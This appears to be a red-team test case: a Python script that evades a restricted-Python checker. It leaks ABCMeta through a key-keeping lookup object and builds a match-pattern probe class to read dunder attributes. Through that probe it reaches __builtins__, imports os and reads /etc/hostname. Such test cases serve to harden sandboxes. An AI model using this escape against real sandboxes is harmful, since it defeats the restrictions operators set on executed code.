# family: red team, round 8 (table_capture_metaclass_match)
# type(x) used as a lookup key is allowed when the table is a "plain dict" (binding kinds OTHER count);
# a tuple-unpacking target binds OTHER, so the table can be an object of the tool whose __getitem__ keeps
# the key. type(k) of a class held in a non-class name gives its metaclass (ABCMeta), which then builds a
# class at run time with __subclasshook__ and __match_args__: a class pattern reads any attribute.
import abc


class Base(abc.ABC):
    pass


class Keeper:
    def __init__(self):
        self.kept = []

    def __getitem__(self, key):
        self.kept.append(key)
        return 0


def _d(word):
    u = "_"
    return u + u + word + u + u


def metaclass_of(k):
    table, = [Keeper()]
    table[type(k)]
    return table.kept[0]


def read(obj, attribute):
    meta = metaclass_of(Base)
    probe = meta("Probe", (), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
